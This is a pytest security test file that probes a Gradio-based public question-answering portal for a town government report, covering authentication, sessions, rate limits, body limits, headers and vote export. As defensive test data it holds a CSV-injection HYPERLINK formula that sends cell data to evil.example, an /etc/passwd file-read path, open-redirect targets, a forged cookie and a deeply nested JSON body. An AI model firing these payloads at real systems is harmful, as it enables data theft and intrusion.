"""Safe on a public portal, tried as an attacker would: raw HTTP against the real servers on loopback.

Two servers: `server` (conftest: public and staff pages, an account and a token) and `public`
(--public: no staff pages at all, a tight rate limit, a trusted proxy at PROXY). Requests from
other loopback addresses (127.0.0.x) are other clients to the server, so each limit test has its own.
"""
from __future__ import annotations

import json
import re
import sys
import tempfile
import time
import uuid
from pathlib import Path

import httpx
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from conftest_web import PROXY, from_address, start_server  # noqa: E402

DOC = "2024-xiaohe-town-rule-of-law-government-report"
QUESTION = "2024年化解了多少矛盾纠纷？"
ENGINE_LIMIT = 5  # the public server's REPORTQA_RATE_LIMIT, per minute
PORTAL = "https://portal.example.gov.cn"
DEEP = "[" * 5000 + "]" * 5000
# Gradio routes a visitor could try: none may answer anything staff-only without a sign-in
GRADIO_GETS = ["/config", "/gradio_api/info", "/gradio_api/file=/etc/passwd", "/gradio_api/queue/data?session_hash=x",
               "/theme.css", "/gradio_api/startup-events", "/gradio_api/heartbeat/x", "/user", "/gradio_api/call/ask/x",
               "/manifest.json", "/staff/feedback.csv", "/staff/feedback.jsonl"]
GRADIO_POSTS = ["/gradio_api/queue/join", "/gradio_api/call/ask", "/gradio_api/run/ask", "/gradio_api/api/ask",
                "/gradio_api/reset", "/gradio_api/cancel", "/staff/feedback"]


@pytest.fixture(scope="module")
def public(tmp_path_factory):
    s = start_server(tmp_path_factory.mktemp("public"), REPORTQA_PUBLIC="1",
                     REPORTQA_RATE_LIMIT=f"{ENGINE_LIMIT}/minute", REPORTQA_FRAME_ORIGINS=PORTAL)
    yield s
    s.stop()


def ask(http, server, question=QUESTION, **kw):
    return http.post(server.url + "/api/ask", json={"question": question}, **kw)


def config(server) -> dict:
    return httpx.get(server.url + "/config", headers=server.staff_headers).json()


def fn_index(server, api_name: str) -> int:
    return next(d["id"] for d in config(server)["dependencies"] if d.get("api_name") == api_name)


def gradio_event(http, server, fn: int, data: list, session: str, event_data=None, headers=None) -> dict:
    """One event on Gradio's own queue protocol: join, then read the event stream to its end."""
    r = http.post(server.url + "/gradio_api/queue/join", headers=headers,
                  json={"data": data, "fn_index": fn, "session_hash": session, "event_data": event_data})
    assert r.status_code == 200, r.text
    event_id = r.json()["event_id"]
    with http.stream("GET", server.url + "/gradio_api/queue/data", params={"session_hash": session},
                     headers=headers, timeout=60) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                msg = json.loads(line[5:])
                if msg.get("event_id") == event_id and msg.get("msg") == "process_completed":
                    return msg
    raise AssertionError("the event stream ended before the event completed")


def sign_in(http, server, user=None, password=None, **kw):
    return http.post(server.url + "/login", data={"user": server.user if user is None else user,
                                                   "password": server.password if password is None else password,
                                                   "next": "/"}, **kw)


# ------------------------------------------------------------------ two faces

def test_public_mode_serves_no_staff_page_at_all(public):
    home = httpx.get(public.url + "/", follow_redirects=True)
    assert home.status_code == 200 and home.url.path == "/home" and "Staff sign in" not in home.text
    for path in GRADIO_GETS + ["/login", "/logout"]:
        r = httpx.get(public.url + path, headers=public.staff_headers)  # not even with the token
        assert r.status_code == 404, path
    for path in GRADIO_POSTS:
        r = httpx.post(public.url + path, json={"fn_index": 0, "data": [], "session_hash": "x"},
                       headers=public.staff_headers)
        assert r.status_code == 404, path
    assert ask(httpx, public).json()["found"] is True


def test_staff_pages_need_a_sign_in_on_every_gradio_route(server):
    anonymous = httpx.get(server.url + "/")
    assert anonymous.status_code == 302 and anonymous.headers["location"] == "/home"
    for path in GRADIO_GETS:
        r = httpx.get(server.url + path)
        assert r.status_code == 401 and "sign in" in r.json()["error"], path
    page = httpx.get(server.url + "/config", headers={"Accept": "text/html"})
    assert page.status_code == 302 and page.headers["location"] == "/login?next=/config"
    vote = fn_index(server, "vote")  # the hidden handler the issue exported votes through
    for path in GRADIO_POSTS:
        r = httpx.post(server.url + path, json={"fn_index": vote, "data": [None], "session_hash": "x",
                                                "event_data": {"index": 1, "value": "x", "liked": True}})
        assert r.status_code == 401, path
    assert httpx.get(server.url + "/config", headers=server.staff_headers).status_code == 200


def test_no_export_handler_and_no_uploads_even_for_staff(server):
    names = {d.get("api_name") for d in config(server)["dependencies"]}
    assert not any("export" in (n or "") for n in names)
    for path in ("/gradio_api/upload", "/gradio_api/upload?upload_id=x", "/gradio_api/upload_progress"):
        r = httpx.post(server.url + path, files={"files": ("x.txt", b"x" * 1000)}, headers=server.staff_headers)
        assert r.status_code == 404, path


@pytest.mark.parametrize("path", ["/openapi.json", "/docs", "/redoc", "/gradio_api/openapi.json"])
def test_no_route_list_is_published(server, public, path):
    assert httpx.get(server.url + path, headers=server.staff_headers).status_code == 404
    assert httpx.get(public.url + path).status_code == 404


# ------------------------------------------------------------------ sign-in and sessions

def test_sign_in_gives_a_signed_httponly_samesite_cookie(server):
    with from_address("127.0.0.11") as http:
        r = sign_in(http, server)
        assert r.status_code == 303 and r.headers["location"] == "/"
        cookie = r.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Path=/" in cookie
        assert "Secure" not in cookie  # plain http on loopback
        assert http.get(server.url + "/config").status_code == 200
        value = http.cookies["reportqa_session"]
        body, sig = value.split(".")
        forged = json.dumps({"u": "admin", "exp": 9999999999, "f": "x", "n": "y"}).encode()
        import base64
        tampered = base64.urlsafe_b64encode(forged).decode().rstrip("=") + "." + sig
        assert httpx.get(server.url + "/config", cookies={"reportqa_session": tampered}).status_code == 401


def test_wrong_password_is_refused_without_saying_which_part(server):
    with from_address("127.0.0.12") as http:
        wrong = sign_in(http, server, password="not the password")
        unknown = sign_in(http, server, user="nobody", password="not the password")
        for r in (wrong, unknown):
            assert r.status_code == 401 and "Wrong name or password" in r.text and "set-cookie" not in r.headers
        assert http.get(server.url + "/config").status_code == 401


def test_the_token_signs_in_with_an_empty_name(server):
    with from_address("127.0.0.13") as http:
        assert sign_in(http, server, user="", password=server.token).status_code == 303
        assert http.get(server.url + "/config").status_code == 200


def test_sign_in_never_redirects_to_another_site(server):
    with from_address("127.0.0.14") as http:
        for target in ("//evil.example/", "https://evil.example/", "/\\evil.example"):
            r = http.post(server.url + "/login", data={"user": server.user, "password": server.password,
                                                        "next": target})
            assert r.status_code == 303 and r.headers["location"] == "/", target


def test_behind_a_trusted_https_proxy_the_cookie_is_secure(server):
    with from_address(PROXY) as http:
        r = sign_in(http, server, headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.1"})
        assert r.status_code == 303 and "Secure" in r.headers["set-cookie"]
        assert r.headers["strict-transport-security"].startswith("max-age=")
    with from_address("127.0.0.15") as http:  # not the proxy: the header is not believed
        r = sign_in(http, server, headers={"X-Forwarded-Proto": "https"})
        assert r.status_code == 303 and "Secure" not in r.headers["set-cookie"]


def test_sign_out_ends_the_session_on_the_server(server):
    with from_address("127.0.0.16") as http:
        sign_in(http, server)
        copied = http.cookies["reportqa_session"]
        assert http.post(server.url + "/logout").status_code == 303
    assert httpx.get(server.url + "/config", cookies={"reportqa_session": copied}).status_code == 401


def test_a_cross_site_post_with_a_session_cookie_is_refused(server):
    with from_address("127.0.0.17") as http:
        sign_in(http, server)
        r = http.post(server.url + "/gradio_api/queue/join", headers={"Origin": "https://evil.example"},
                      json={"fn_index": fn_index(server, "vote"), "data": [None], "session_hash": "x"})
        assert r.status_code == 403
        r = http.post(server.url + "/staff/feedback", headers={"Origin": server.url}, json={})
        assert r.status_code == 400  # from its own page it goes through (and is checked by the route)


def test_accounts_added_or_removed_while_serving_take_effect(server):
    from reportqa.web.auth import add_user, remove_user

    users = Path(server.env["REPORTQA_STAFF_USERS"])
    add_user(users, "newcomer", "a long enough password")
    with from_address("127.0.0.18") as http:
        for _ in range(20):  # the server re-reads the file within a second
            if sign_in(http, server, "newcomer", "a long enough password").status_code == 303:
                break
            time.sleep(0.25)
        assert http.get(server.url + "/config").status_code == 200
        remove_user(users, "newcomer")
        for _ in range(20):
            if http.get(server.url + "/config").status_code == 401:
                break
            time.sleep(0.25)
        assert http.get(server.url + "/config").status_code == 401  # its session ended with it


# ------------------------------------------------------------------ rate limits and client identity

def test_the_engine_route_is_rate_limited_per_client_with_retry_after(public):
    with from_address("127.0.0.2") as http:
        assert [ask(http, public).status_code for _ in range(ENGINE_LIMIT)] == [200] * ENGINE_LIMIT
        r = ask(http, public)
        assert r.status_code == 429 and "try again" in r.json()["error"]
        assert 1 <= int(r.headers["retry-after"]) <= 60
        assert http.get(public.url + "/api/health").status_code == 200  # health checks are never limited
    with from_address("127.0.0.3") as other:
        assert ask(other, public).status_code == 200  # another client has its own allowance


def test_forwarded_for_counts_only_from_the_trusted_proxy(public):
    with from_address(PROXY) as proxy:
        one = {"X-Forwarded-For": "203.0.113.7"}
        assert [ask(proxy, public, headers=one).status_code for _ in range(ENGINE_LIMIT)] == [200] * ENGINE_LIMIT
        assert ask(proxy, public, headers=one).status_code == 429
        assert ask(proxy, public, headers={"X-Forwarded-For": "203.0.113.8"}).status_code == 200
    with from_address("127.0.0.4") as liar:  # not a proxy: a new X-Forwarded-For each time changes nothing
        codes = [ask(liar, public, headers={"X-Forwarded-For": f"198.51.100.{n}"}).status_code
                 for n in range(ENGINE_LIMIT + 1)]
        assert codes == [200] * ENGINE_LIMIT + [429]


OPENAI_ERROR = {"message", "type", "param", "code"}
CHAT = {"model": "reportqa", "messages": [{"role": "user", "content": QUESTION}]}


def test_the_openai_api_is_rate_limited_in_openais_error_shape(public):
    """/v1 is public: chat completions count against REPORTQA_RATE_LIMIT, and the 429 is one the
    openai package reads as a RateLimitError (its retry logic honours Retry-After)."""
    import openai

    with from_address("127.0.0.5") as http:
        codes = [http.post(public.url + "/v1/chat/completions", json=CHAT).status_code for _ in range(ENGINE_LIMIT)]
        assert codes == [200] * ENGINE_LIMIT
        r = http.post(public.url + "/v1/chat/completions", json=CHAT)
        assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 60
        error = r.json()["error"]
        assert set(error) == OPENAI_ERROR and error["type"] == "rate_limit_error"
        assert error["code"] == "rate_limit_exceeded" and "try again" in error["message"]
        client = openai.OpenAI(base_url=public.url + "/v1", api_key="x", max_retries=0, http_client=http)
        with pytest.raises(openai.RateLimitError):
            client.chat.completions.create(**CHAT)
    with from_address("127.0.0.6") as other:
        assert other.post(public.url + "/v1/chat/completions", json=CHAT).status_code == 200


def test_the_openai_api_takes_long_conversations_but_not_unbounded_bodies(public):
    """Chat clients resend the whole conversation: /v1 has REPORTQA_API_MAX_BODY (1 MiB), not the public
    16 KB; beyond it, and for a body nested too deep, the Guard answers in OpenAI's error shape."""
    history = [{"role": "user", "content": "旧问题" * 2000}, {"role": "assistant", "content": "旧答案" * 2000}] * 4
    long_chat = {"model": "reportqa", "messages": history + CHAT["messages"]}
    assert len(json.dumps(long_chat).encode()) > 64 * 1024
    with from_address("127.0.0.7") as http:
        r = http.post(public.url + "/v1/chat/completions", json=long_chat)
        assert r.status_code == 200 and "230" in r.json()["choices"][0]["message"]["content"]
        r = http.post(public.url + "/v1/chat/completions", content=streamed(1025),
                      headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large"
        assert set(r.json()["error"]) == OPENAI_ERROR
        r = http.post(public.url + "/v1/chat/completions", content='{"messages": ' + DEEP + "}",
                      headers={"Content-Type": "application/json"})
        assert r.status_code == 400 and r.json()["error"]["type"] == "invalid_request_error"
        assert "nested" in r.json()["error"]["message"]
        r = http.post(public.url + "/api/ask", content=streamed(20), headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and r.json() == {"error": "the request body is over 16384 bytes"}


def test_sign_in_attempts_are_rate_limited(server):
    with from_address("127.0.0.19") as http:
        codes = [sign_in(http, server, password="guess").status_code for _ in range(30)]
        assert codes == [401] * 30
        r = sign_in(http, server)  # even the right password waits now
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1


def test_staff_events_are_rate_limited_per_account(server):
    from reportqa.web.auth import add_user

    add_user(Path(server.env["REPORTQA_STAFF_USERS"]), "busy", "a long enough password")
    with from_address("127.0.0.20") as http:
        for _ in range(20):
            if sign_in(http, server, "busy", "a long enough password").status_code == 303:
                break
            time.sleep(0.25)
        codes = [http.post(server.url + "/staff/feedback", json={}).status_code for _ in range(300)]
        assert codes == [400] * 300  # REPORTQA_STAFF_RATE_LIMIT of the test server: 300/minute
        assert http.post(server.url + "/staff/feedback", json={}).status_code == 429
    assert httpx.post(server.url + "/staff/feedback", json={}, headers=server.staff_headers).status_code == 400


# ------------------------------------------------------------------ bodies

def test_a_json_body_nested_5000_deep_is_400_not_a_crash(server, public):
    for s in (server, public):
        r = httpx.post(s.url + "/api/ask", content='{"question": ' + DEEP + "}",
                       headers={"Content-Type": "application/json"})
        assert r.status_code == 400 and "nested" in r.json()["error"]
    r = httpx.post(server.url + "/gradio_api/queue/join", content=DEEP, headers={
        "Content-Type": "application/json", **server.staff_headers})
    assert r.status_code == 400
    r = httpx.post(server.url + "/api/ask", content=DEEP, headers={"Content-Type": "text/plain"})
    assert r.status_code == 400  # not declared as JSON: the route's own parser says no, without a traceback
    assert "Traceback" not in server.log.read_text() and "RecursionError" not in server.log.read_text()


def test_malformed_json_is_400_everywhere(server):
    for path, headers in (("/api/ask", {}), ("/gradio_api/queue/join", server.staff_headers)):
        r = httpx.post(server.url + path, content=b'{"question": ', headers={"Content-Type": "application/json",
                                                                            **headers})
        assert r.status_code == 400 and "JSON" in r.json()["error"], path


def streamed(n_kb: int):
    def chunks():
        for _ in range(n_kb):
            yield b"a" * 1024
    return chunks()


def test_the_body_limit_holds_on_gradio_routes_counting_streamed_bytes(server):
    # Anonymous: refused before a byte of the body is read.
    r = httpx.post(server.url + "/gradio_api/call/ask", content=streamed(23 * 1024))
    assert r.status_code == 401
    # Signed in: staff bodies may be larger than public ones (REPORTQA_STAFF_MAX_BODY, 1 MiB), not unbounded.
    r = httpx.post(server.url + "/gradio_api/call/ask", content=streamed(2 * 1024), headers=server.staff_headers)
    assert r.status_code == 413
    big = {"data": ["a" * (2 * 1024 * 1024)]}
    r = httpx.post(server.url + "/gradio_api/call/ask", json=big, headers=server.staff_headers)
    assert r.status_code == 413
    r = httpx.post(server.url + "/api/ask", content=streamed(20), headers={"Content-Type": "application/json"})
    assert r.status_code == 413


# ------------------------------------------------------------------ headers

PUBLIC_PAGES = ["/widget", f"/report/{DOC}", "/commitments", "/home"]


def header_sets(server, path, **kw):
    r = httpx.get(server.url + path, **kw)
    assert r.status_code == 200, path
    return r, r.headers.get("content-security-policy", "")


def test_every_response_says_nosniff_and_a_referrer_policy(server, public):
    paths = PUBLIC_PAGES + ["/api/health", "/api/reports", "/api/commitments", "/widget.js",
                            "/reportqa-static/widget-app.js"]
    for s in (server, public):
        for path in paths:
            r = httpx.get(s.url + path)
            assert r.headers["x-content-type-options"] == "nosniff", path
            assert r.headers["referrer-policy"] == "same-origin", path
            assert "server" not in r.headers, path
    assert httpx.post(server.url + "/api/ask", json={}).headers["x-content-type-options"] == "nosniff"
    assert httpx.get(server.url + "/config").headers["x-content-type-options"] == "nosniff"  # even a 401


def test_public_pages_have_a_csp_with_no_inline_script(server, public):
    for s in (server, public):
        for path in PUBLIC_PAGES + ["/login"] * (s is server):
            r, csp = header_sets(s, path)
            script = re.search(r"script-src ([^;]*)", csp).group(1)
            assert script.strip() == "'self'", (path, csp)
            assert "default-src 'none'" in csp and "style-src 'self'" in csp
            assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", r.text), f"inline script in {path}"
            assert not re.search(r"\son[a-z]+\s*=", r.text.replace(" onerror=alert", "")), f"event handler in {path}"
            assert not re.search(r"<[a-z][^>]*\sstyle\s*=", r.text), f"inline style in {path}"


def test_the_widget_may_be_framed_by_any_portal_or_only_by_the_listed_ones(server, public):
    _, csp = header_sets(public, "/widget")
    assert f"frame-ancestors 'self' {PORTAL}" in csp
    r, _ = header_sets(public, "/widget")
    assert "x-frame-options" not in r.headers  # it cannot say "these portals"; frame-ancestors does
    for path in PUBLIC_PAGES[1:]:
        r, csp = header_sets(public, path)
        assert "frame-ancestors 'none'" in csp and r.headers["x-frame-options"] == "DENY", path
    _, csp = header_sets(server, "/widget")
    assert "frame-ancestors *" in csp  # none listed: any portal may embed the public, read-only widget
    for path in PUBLIC_PAGES[1:]:
        r, csp = header_sets(server, path)
        assert "frame-ancestors 'none'" in csp and r.headers["x-frame-options"] == "DENY", path


def test_the_staff_page_allows_only_gradios_own_nonced_inline_scripts(server):
    r, csp = header_sets(server, "/", headers=server.staff_headers)
    nonce = re.search(r"'nonce-([A-Za-z0-9_-]+)'", csp).group(1)
    script = re.search(r"script-src ([^;]*)", csp).group(1)
    assert "'unsafe-inline'" not in script and "frame-ancestors 'none'" in csp
    assert r.headers["x-frame-options"] == "DENY" and r.headers["cache-control"] == "no-store"
    inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", r.text)
    assert inline and all(f'nonce="{nonce}"' in attrs for attrs in inline)
    again = httpx.get(server.url + "/", headers=server.staff_headers).headers["content-security-policy"]
    assert nonce not in again  # a new nonce for every page


# ------------------------------------------------------------------ votes

def test_a_vote_names_an_issued_answer_and_stores_the_servers_copy(server):
    d = ask(httpx, server).json()
    assert re.fullmatch(r"[0-9a-f]{32}", d["answer_id"])
    vote = lambda body: httpx.post(server.url + "/staff/feedback", json=body, headers=server.staff_headers)  # noqa: E731
    assert vote({"answer_id": uuid.uuid4().hex, "vote": "like"}).status_code == 404  # never issued
    before = len(server.votes())
    for _ in range(200):  # the 200 votes of the issue: one vote, the last
        assert vote({"answer_id": d["answer_id"], "vote": "like"}).status_code == 200
    assert vote({"answer_id": d["answer_id"], "vote": "dislike"}).json()["status"] == "replaced"
    votes = server.votes()
    assert len(votes) == before + 1 and votes[-1] == ("token", "dislike", QUESTION, d["answer"])
    assert vote({"answer_id": d["answer_id"], "vote": None}).json()["status"] == "removed"
    assert len(server.votes()) == before


def test_the_csv_export_escapes_formulas_and_leaves_no_files(server):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x") 2024年化解了多少矛盾纠纷？'
    d = ask(httpx, server, formula).json()
    r = httpx.post(server.url + "/staff/feedback", json={"answer_id": d["answer_id"], "vote": "like"},
                   headers=server.staff_headers)
    assert r.status_code == 200
    temp = Path(tempfile.gettempdir())
    before = {p.name for p in temp.iterdir()}
    export = httpx.get(server.url + "/staff/feedback.csv", headers=server.staff_headers)
    assert export.status_code == 200 and "attachment" in export.headers["content-disposition"]
    assert "text/csv" in export.headers["content-type"]
    import csv
    import io
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["timestamp", "vote", "question"]
    assert ["'" + formula] == [row[2] for row in rows[1:] if "HYPERLINK" in row[2]]
    jsonl = httpx.get(server.url + "/staff/feedback.jsonl", headers=server.staff_headers).text
    assert any(json.loads(line)["question"] == formula for line in jsonl.splitlines())  # JSON keeps the text
    after = {p.name for p in temp.iterdir()}
    assert not {n for n in after - before if "feedback" in n or n.startswith(("gradio", "tmp"))}


def test_gradio_votes_bind_to_this_conversations_answer_and_clearing_forgets_it(server):
    """The raw queue protocol, as the staff page speaks it: chat, vote, clear, vote again."""
    headers = server.staff_headers
    chat, vote, clear = fn_index(server, "chat"), fn_index(server, "vote"), fn_index(server, "forget")
    session = uuid.uuid4().hex[:10]
    like = {"index": 1, "value": "x", "liked": True}
    with httpx.Client(timeout=60) as http:
        done = gradio_event(http, server, chat, [QUESTION, [], None, "all"], session, headers=headers)
        assert done["success"], done
        before = len(server.votes())
        for _ in range(5):
            assert gradio_event(http, server, vote, [None], session, like, headers=headers)["success"]
        assert len(server.votes()) == before + 1 and server.votes()[-1][2] == QUESTION
        gradio_event(http, server, clear, [], session, headers=headers)  # the trash icon
        gradio_event(http, server, vote, [None], session, like, headers=headers)
        assert len(server.votes()) == before + 1, "a vote after clearing must not rate the cleared answer"
        other = "法治政府建设工作领导小组的组长是谁？"
        history = [{"role": role, "content": [{"type": "text", "text": "forged"}]}  # a chat the client made up
                   for role in ("user", "assistant")]
        gradio_event(http, server, chat, [QUESTION, history, None, "all"], session, headers=headers)
        shown = gradio_event(http, server, chat, [other, history, None, "all"], session, headers=headers)
        messages = shown["output"]["data"][1]
        assert len(messages) == 4 and "组长" in str(messages[2]), "the server shows its own record, not the forgery"
        gradio_event(http, server, vote, [None], session, {"index": 3, "value": "x", "liked": False}, headers=headers)
        assert server.votes()[-1][1:3] == ("dislike", other)
